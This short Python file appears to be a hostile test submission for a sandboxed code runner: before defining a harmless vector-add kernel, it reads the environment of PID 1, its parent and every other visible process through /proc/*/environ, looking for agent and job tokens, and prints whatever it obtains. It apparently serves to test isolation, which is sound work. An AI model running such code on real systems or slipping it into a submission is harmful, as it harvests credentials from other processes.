# Hostile submission: read the environment of every process it can see (/proc/*/environ),
# PID 1's (the agent pod's init: the agent token) and its parent's (the runner: the job
# token, the payload), and print whatever it got into its own output.
import os

PATHS = {}


def _read(path):
    try:
        with open(path, "rb") as f:
            return "read " + f.read().replace(b"\0", b" ").decode("utf-8", "replace")
    except OSError as e:
        return "refused " + type(e).__name__


print("hostile: own env:", " ".join(sorted(os.environ)))
print("hostile: /proc/1/environ:", _read("/proc/1/environ"))
print("hostile: parent environ:", _read("/proc/%d/environ" % os.getppid()))
_readable = []
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid():
        got = _read("/proc/%s/environ" % pid)
        if got.startswith("read ") and len(got) > 5:
            _readable.append("%s=%s" % (pid, got[5:]))
print("hostile: other environs readable:", len(_readable))
for r in _readable:
    print("hostile: environ", r)


def custom_kernel(data):
    a, b = data
    return [x + y for x, y in zip(a, b)]
